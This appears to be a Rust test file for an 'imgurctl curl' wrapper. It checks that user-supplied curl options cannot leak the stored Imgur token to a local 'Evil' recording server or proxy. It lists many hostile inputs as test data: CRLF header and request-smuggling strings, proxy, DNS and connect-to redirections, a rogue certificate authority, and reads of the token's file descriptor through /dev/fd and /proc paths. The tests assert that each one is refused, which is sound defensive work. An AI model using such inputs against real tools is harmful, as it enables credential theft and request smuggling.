//! Arguments of `imgurctl curl` that could send the token elsewhere.

use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::symlink;
use std::process::{Command, Stdio};

use imgurd_tests::fake::{Behaviour, Endpoint, Fault};
use imgurd_tests::relay::{Manner, Relay};
use imgurd_tests::testbed::{Scene, binary, needs_root};
use imgurd_tests::tls::Authority;

/// A server that is not Imgur and records what it receives.
struct Evil {
    relay: Relay,
    place: String,
}

impl Evil {
    fn start(scene: &Scene, manner: Manner) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let place = listener.local_addr().unwrap().to_string();
        Self { relay: Relay::start(listener, scene.fake.address(), manner), place }
    }

    /// A proxy that connects every request to `next`.
    fn proxy(next: &Self) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let place = listener.local_addr().unwrap().to_string();
        let relay = Relay::start(listener, next.place.parse().unwrap(), Manner::Proxy("200 OK"));
        Self { relay, place }
    }

    #[track_caller]
    fn has_no(&self, token: &str) {
        assert!(!self.relay.seen().contains(token), "the relay saw the token");
    }
}

/// Fails if there was a connection to the other server or a request to the API.
#[track_caller]
fn is_refused(scene: &Scene, evil: &Evil, arguments: &[&str]) {
    let asked = scene.fake.requests(Endpoint::Account).len();
    let output = scene.ctl(&[&["curl", "--", "-s", "--max-time", "5"], arguments].concat()).exits(2);
    output.complaint();
    assert_eq!(evil.relay.connections(), 0, "{arguments:?}");
    assert_eq!(scene.fake.requests(Endpoint::Account).len(), asked, "{arguments:?}");
}

#[test]
fn no_argument_sends_the_token_elsewhere_or_adds_a_line() {
    let scene = Scene::memory(Behaviour::default()).signed_in();
    let evil = Evil::start(&scene, Manner::Silent);
    let (at, url) = (evil.place.as_str(), format!("http://{}/", evil.place));
    let headers = scene.bed.home().join("headers");
    fs::write(&headers, format!("Host: {at}\nAuthorization: none\n")).unwrap();
    let headers = format!("@{}", headers.display());
    let link = scene.bed.home().join("link");
    symlink("/proc/self/fd/3", &link).unwrap();
    let link = format!("@{}", link.display());
    let (connect_to, resolve) = (format!("::{at}"), format!("*:80:{at}"));
    let smuggled = "GET /3/account/me HTTP/1.1\r\nX-Smuggled: yes\r\nX:";
    for arguments in [
        &["-H", &headers, "account/me"][..],
        &["-H", "@/dev/null", "account/me"],
        &["-H", "X: y\r\nX-Smuggled: yes", "account/me"],
        &["-H", "Host: evil", "account/me"],
        &["-HHost;x: y", "account/me"],
        &["-H", "Proxy-Authorization: x", "account/me"],
        &["-H", "Transfer-Encoding: chunked", "account/me"],
        &["-H", "Content-Length: 1", "account/me"],
        &["-H", "Connection: Authorization", "account/me"],
        &["-X", smuggled, "account/me"],
        &["-sXGET /x HTTP/1.1", "account/me"],
        &["-A", "a\r\nX-Smuggled: yes", "account/me"],
        &["-e", "a\nX-Smuggled: yes", "account/me"],
        &["-b", "a=b\r\nX-Smuggled: yes", "account/me"],
        &["-r", "0-1\r\nX-Smuggled: yes", "account/me"],
        &["account/me\r\nX-Smuggled: yes"],
        &["account/me HTTP/1.1\nHost: evil"],
        &["-x", &url, "--cacert", "evil.pem", "account/me"],
        &["--capath", ".", "account/me"],
        &["--pinnedpubkey", "x", "account/me"],
        &["--proxy-cacert", "x", "account/me"],
        &["--ciphers", "aNULL", "account/me"],
        &["--preproxy", &url, "account/me"],
        &["--socks5-hostname", at, "account/me"],
        &["--prox", at, "account/me"],
        &["--connect-to", &connect_to, "account/me"],
        &["--resolve", &resolve, "account/me"],
        &["--doh-url", &url, "account/me"],
        &["--next", &url],
        &["account/me", "-:", &url],
        &["account/me", &url],
        &["--request-target", &url, "account/me"],
        &["--variable", "x=y", "account/me"],
        &["--expand-url", &url],
        &["-K", "config", "account/me"],
        &["-v", "account/me"],
        &["--trace", "-", "account/me"],
        &["-d", "@/dev/fd/3", "account/me"],
        &["-d", "@/proc/self/fd/3", "account/me"],
        &["-d", "@/dev/../proc/thread-self/fd/3", "account/me"],
        &["-d", &link, "account/me"],
        &["--json", "@/dev/fd/3", "account/me"],
        &["--data-urlencode", "x@/dev/fd/3", "account/me"],
        &["--url-query", "x@/dev/fd/3", "account/me"],
        &["-F", "image=@/dev/fd/3", "account/me"],
        &["-F", "image=<//dev//fd/3;type=text/plain", "account/me"],
        &["-F", "image=x;headers=@/dev/fd/3", "account/me"],
        &["-T", "/dev/fd/3", "account/me"],
        &["-b", "/dev/fd/3", "account/me"],
        &["-o", "/dev/fd/3", "account/me"],
        &["--etag-compare", "/proc/self/fd/3", "account/me"],
        &["--key", "/dev/fd/3", "account/me"],
    ] {
        is_refused(&scene, &evil, arguments);
    }
}

/// curl reads the pipe with the header before it looks at any other option.
#[test]
fn the_header_cannot_be_read_twice() {
    let scene = Scene::memory(Behaviour::default()).signed_in();
    let fake_curl = scene.bed.home().join("bin");
    fs::create_dir(&fake_curl).unwrap();
    let script = "#!/bin/sh\nprintf '%s\\n' \"$@\" >\"$HOME/arguments\"\n";
    fs::write(fake_curl.join("curl"), script).unwrap();
    let made = Command::new("chmod").arg("+x").arg(fake_curl.join("curl")).status().unwrap();
    assert!(made.success());
    scene.bed.set_env("PATH", format!("{}:/usr/bin:/bin", fake_curl.display()));
    scene.ctl(&["curl", "--", "-d", "a=b", "account/me"]).success();
    let arguments = fs::read_to_string(scene.bed.home().join("arguments")).unwrap();
    let begin: Vec<_> = arguments.lines().take(3).collect();
    assert_eq!(begin[..2], ["--disable", "--header"]);
    assert!(begin[2].starts_with("@/dev/fd/"), "{arguments}");
}

#[test]
fn a_malicious_proxy_sees_no_token() {
    let scene = Scene::memory(Behaviour::default());
    scene.over_tls();
    let scene = scene.signed_in();
    let evil_authority = Authority::new(scene.bed.root(), "evil");
    let evil = Evil::start(&scene, Manner::Tls(evil_authority.server("localhost")));
    let proxy = Evil::proxy(&evil);
    let certificate = evil_authority.certificate().display().to_string();
    let url = format!("http://{}", proxy.place);
    let token = scene.token();
    // imgurctl passes the account's own certificate authority to curl.
    assert!(scene.ctl(&["curl", "--", "-sS", "account/me"]).success().stdout.contains("alice"));

    scene.ctl(&["curl", "--", "-s", "-x", &url, "--cacert", &certificate, "account/me"]).exits(2);
    scene.ctl(&["curl", "--", "-s", "-x", &url, "account/me"]).exits(60);
    for (name, value) in [("HTTPS_PROXY", &url), ("ALL_PROXY", &url), ("CURL_CA_BUNDLE", &certificate)] {
        scene.bed.set_env(name, value);
    }
    scene.bed.set_env("SSLKEYLOGFILE", scene.bed.root().join("keys"));
    scene.ctl(&["curl", "--", "-s", "account/me"]).exits(60);
    assert!(proxy.relay.connections() >= 2, "the proxy was used");
    proxy.has_no(&token);
    evil.has_no(&token);
    assert!(!scene.bed.root().join("keys").exists(), "curl does not write the keys of the connection");
}

#[test]
fn harmless_options_work() {
    let scene = Scene::memory(Behaviour::default()).signed_in();
    let out = scene.bed.home().join("out").display().to_string();
    for arguments in [
        &["-sS", "-H", "Accept: application/json", "-H", "X-Empty;", "account/me"][..],
        &["-sS", "-XGET", "--data-raw", "a\nb", "account/me"],
        &["-sS", "-G", "--data-urlencode", "q=a\nb", "account/me"],
        &["-sS", "-A", "a tool", "-e", "https://imgur.com/", "-b", "a=b", "account/me"],
        &["-fsS", "-L", "--compressed", "account/me"],
        &["-sS", "-o", "/dev/stdout", "account/me"],
        &["-sS", "-D", "/dev/null", "--stderr", "-", "-w", "\n%{http_code}\n", "account/me"],
    ] {
        let output = scene.ctl(&[&["curl", "--"], arguments].concat()).success();
        assert!(output.stdout.contains("alice"), "{arguments:?} {}", output.stdout);
    }
    scene.ctl(&["curl", "--", "-sS", "-o", &out, "account/me"]).success();
    assert!(fs::read_to_string(&out).unwrap().contains("alice"));
}

#[test]
fn with_fail_a_rejected_token_is_replaced_and_error_bodies_are_hidden() {
    let scene = Scene::memory(Behaviour::default()).signed_in();
    scene.fake.configure(|behaviour| behaviour.rejection = 403);
    scene.fake.kill_access_token();
    let output = scene.ctl(&["curl", "--", "-fs", "-w", "%{http_code}", "account/me"]).success();
    assert!(output.stdout.contains("alice") && output.stdout.ends_with("200"), "{}", output.stdout);
    assert_eq!(scene.refreshes().len(), 1);
    scene.fake.fail_next(Endpoint::Account, Fault::Error(403, "Unauthorized".into()));
    let output = scene.ctl(&["curl", "--", "-fs", "-w", "%{http_code}", "account/me"]).exits(22);
    assert_eq!(output.stdout, "403");
    assert_eq!(scene.refreshes().len(), 1);
}

#[test]
fn a_failed_write_to_standard_output_is_an_error() {
    let scene = Scene::memory(Behaviour::default()).signed_in();
    for fault in [None, Some(Fault::Huge)] {
        if let Some(fault) = fault {
            scene.fake.fail_next(Endpoint::Account, fault);
        }
        let mut command = scene.bed.command("sh");
        command.args(["-c", "exec \"$0\" curl -- -s account/me >/dev/full"]).arg(binary("imgurctl"));
        let output = command.stdin(Stdio::null()).output().unwrap();
        assert_eq!(output.status.code(), Some(1));
        let complaint = String::from_utf8(output.stderr).unwrap();
        assert!(complaint.contains("cannot write to standard output"), "{complaint}");
    }
}

#[test]
fn without_proc_nothing_is_sent_or_refreshed() {
    if !needs_root("namespaces") {
        return;
    }
    let scene = Scene::memory(Behaviour::default()).signed_in();
    let asked = || scene.fake.requests(Endpoint::Account).len();
    let curl = |before: &str| {
        let mut command = scene.bed.command("unshare");
        command.args(["--mount", "sh", "-c", &format!("{before} exec \"$@\""), "sh"]).arg(binary("imgurctl"));
        command.args(["curl", "--", "-s", "account/me"]);
        scene.bed.start(command).finish()
    };
    let before = asked();
    curl("").success();
    assert_eq!(asked(), before + 1);
    let refused = curl("mount -t tmpfs none /proc &&").exits(1);
    assert!(refused.complaint().contains("mount /proc"), "{}", refused.stderr);
    assert_eq!((asked(), scene.refreshes().len()), (before + 1, 0));
}
